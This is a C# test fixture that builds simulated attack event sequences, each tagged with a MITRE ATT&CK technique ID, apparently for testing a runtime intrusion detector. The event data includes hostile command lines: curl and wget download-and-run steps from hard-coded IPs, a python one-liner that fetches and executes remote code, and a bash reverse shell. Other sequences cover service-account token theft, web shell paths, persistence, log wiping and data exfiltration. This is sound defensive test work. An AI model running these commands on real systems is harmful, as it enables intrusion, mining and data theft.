using RuntimeGuard.Models;
using RuntimeGuard.Models.Replay;

namespace RuntimeGuard.Tests.Fleet;

/// <summary>One event of an attack.</summary>
/// <param name="AfterNs">Since the attack began.</param>
/// <param name="Depth">0: the main process does it; 1: what it starts; 2: what that starts.</param>
sealed record FleetStep(long AfterNs, string Technique, int Depth, FleetBehaviour What, EventFlags Flags = EventFlags.None);

/// <summary>What an attack finds where it strikes.</summary>
/// <param name="OfOtherRole">What other replicas do and this one does not.</param>
sealed record FleetTarget(string Image, IEnumerable<FleetBehaviour> OfOtherRole);

/// <summary>
/// Attacks as incident reports and honeypots tell them: their commands, paths and peers. None of it is drawn from the
/// scoring data of the models. What could be learned has names that no other attack uses, for one workload suffers all of them.
/// </summary>
static class FleetAttacks
{
    const long Second = FleetPlan.Second;
    const long Day = FleetPlan.Day;
    const string Kinsing = "93.189.42.8", Store = "198.98.56.12", Relay = "89.44.9.243", Depot = "141.105.65.94", Pool = "94.23.247.226", Control = "185.220.101.34", Drop = "45.9.148.35";

    public static IReadOnlyDictionary<string, Func<FleetTarget, IEnumerable<FleetStep>>> Kinds { get; } =
        new Dictionary<string, Func<FleetTarget, IEnumerable<FleetStep>>>
        {
            ["reverse-shell"] = _ =>
            [
                Exec(0, "T1059.004", 1, "/bin/bash", EventFlags.StdioSocket, "bash", "-i"),
                Connect(1, "T1071", 1, Control, 4444),
                Exec(20, "T1033", 2, "/usr/bin/id", "id"),
                Exec(40, "T1082", 2, "/usr/bin/uname", "uname", "-a"),
            ],
            ["download-and-run"] = _ =>
            [
                Exec(0, "T1190", 1, "/bin/sh", "sh", "-c", $"curl -s http://{Drop}/d.sh -o /tmp/d.sh; chmod +x /tmp/d.sh; /tmp/d.sh"),
                Exec(1, "T1105", 2, "/usr/bin/curl", "curl", "-s", $"http://{Drop}/d.sh", "-o", "/tmp/d.sh"),
                Connect(2, "T1071.001", 2, Drop, 80),
                File(3, "T1105", 2, RecordedKind.Create, "/tmp/d.sh"),
                File(4, "T1222.002", 2, RecordedKind.Chmod, "/tmp/d.sh", mode: 0x1ED),
                Exec(5, "T1059.004", 2, "/tmp/d.sh", EventFlags.NotInImage, "/tmp/d.sh"),
            ],
            ["miner"] = _ =>
            [
                File(0, "T1105", 0, RecordedKind.Create, "/tmp/kdevtmpfsi"),
                Exec(2, "T1496", 1, "/tmp/kdevtmpfsi", EventFlags.NotInImage, "/tmp/kdevtmpfsi"),
                Connect(3, "T1496", 1, Pool, 3333),
            ],
            ["token-theft"] = _ =>
            [
                Exec(0, "T1552", 1, "/bin/cat", "cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
                File(0, "T1528", 1, RecordedKind.Open, "/var/run/secrets/kubernetes.io/serviceaccount/token"),
                Connect(10, "T1613", 1, "10.96.0.1", 443),
            ],
            ["metadata-request"] = _ => [Connect(0, "T1552.005", 0, "169.254.169.254", 80)],
            ["lateral-scan"] = _ => Enumerable.Range(1, 60).Select(i =>
                Connect(i * 2, "T1046", 0, $"10.77.5.{i}", (ushort)(i % 3 == 0 ? 22 : i % 3 == 1 ? 6379 : 2375))),
            // Only what the image has and no rule names: an interpreter, a file of its own, an ordinary port.
            ["living-off-the-image"] = target =>
            [
                Exec(0, "T1059.006", 1, "/usr/bin/python3", "python3", "-c", "import urllib.request as u;exec(u.urlopen('https://paste.ee/r/x').read())"),
                Connect(2, "T1071.001", 1, "104.20.3.235", 443),
                File(30, "T1505.003", 1, RecordedKind.Create, $"/var/lib/{target.Image}/upload/shell.php"),
                Exec(60, "T1083", 2, "/usr/bin/find", "find", "/", "-name", "*.conf"),
            ],
            ["slow-chain"] = target =>
            [
                Exec(0, "T1033", 1, "/usr/bin/whoami", "whoami"),
                File(Day / Second, "T1505.003", 0, RecordedKind.Create, $"/var/lib/{target.Image}/upload/.s.php"),
                File(2 * Day / Second, "T1087.001", 1, RecordedKind.Open, "/etc/passwd"),
                Exec(3 * Day / Second, "T1083", 1, "/usr/bin/find", "find", $"/var/lib/{target.Image}", "-mtime", "-9"),
                Exec(5 * Day / Second, "T1560.001", 1, "/usr/bin/zip", "zip", "-r", "/tmp/b.zip", $"/var/lib/{target.Image}"),
                Connect(6 * Day / Second, "T1048", 0, Store, 8443),
            ],
            ["fast-quiet-chain"] = target =>
            [
                Exec(0, "T1033", 1, "/usr/bin/groups", "groups"),
                Exec(60, "T1082", 1, "/usr/bin/env", "env"),
                File(90, "T1087.001", 1, RecordedKind.Open, "/etc/passwd"),
                File(120, "T1505.003", 0, RecordedKind.Create, $"/var/lib/{target.Image}/static/.thumb.php"),
                Exec(300, "T1049", 1, "/bin/ss", "ss", "-tnp"),
                Connect(600, "T1048", 0, Relay, 9443),
            ],
            ["persistence"] = _ =>
            [
                File(0, "T1053.003", 1, RecordedKind.Create, "/etc/cron.d/sync"),
                File(5, "T1098.004", 1, RecordedKind.Write, "/root/.ssh/authorized_keys"),
            ],
            ["log-wipe"] = _ =>
            [
                File(0, "T1070.002", 1, RecordedKind.Unlink, "/var/log/auth.log"),
                File(1, "T1070.003", 1, RecordedKind.Unlink, "/root/.bash_history"),
            ],
            ["worm"] = _ =>
            [
                Exec(0, "T1190", 1, "/bin/sh", "sh", "-c", $"wget -q http://{Kinsing}/kinsing -O /var/tmp/kinsing"),
                Exec(1, "T1105", 2, "/usr/bin/wget", "wget", "-q", $"http://{Kinsing}/kinsing", "-O", "/var/tmp/kinsing"),
                Connect(2, "T1071.001", 2, Kinsing, 80),
                Exec(9, "T1496", 2, "/var/tmp/kinsing", EventFlags.NotInImage, "/var/tmp/kinsing"),
            ],
            ["poisoned"] = target =>
            [
                Exec(0, "T1190", 1, "/bin/sh", "sh", "-c", "uptime;mount"),
                File(2, "T1505.003", 1, RecordedKind.Create, $"/var/lib/{target.Image}/cache/.x.php"),
                Connect(3, "T1071.001", 1, Depot, 443),
            ],
            // Nothing the image does not do every day: only this replica is not one of those that do it.
            ["crossed-role"] = target => target.OfOtherRole.Select((what, i) => new FleetStep(i * 40 * Second, "T1036",
                what.Kind == RecordedKind.Exec ? 1 : 0, what)),
        };

    static FleetStep Exec(long seconds, string technique, int depth, string path, params string[] arguments) =>
        Exec(seconds, technique, depth, path, EventFlags.None, arguments);

    static FleetStep Exec(long seconds, string technique, int depth, string path, EventFlags flags, params string[] arguments) =>
        new(seconds * Second, technique, depth, FleetVocabulary.Exec(path, arguments), flags);

    static FleetStep Connect(long seconds, string technique, int depth, string address, ushort port) => new(seconds * Second, technique,
        depth, FleetVocabulary.Of(RecordedKind.Connect, "", peer: FleetVocabulary.Address(address), port: port, protocol: 6));

    static FleetStep File(long seconds, string technique, int depth, RecordedKind kind, string path, uint mode = 0) =>
        new(seconds * Second, technique, depth, FleetVocabulary.Of(kind, path, mode: mode));
}
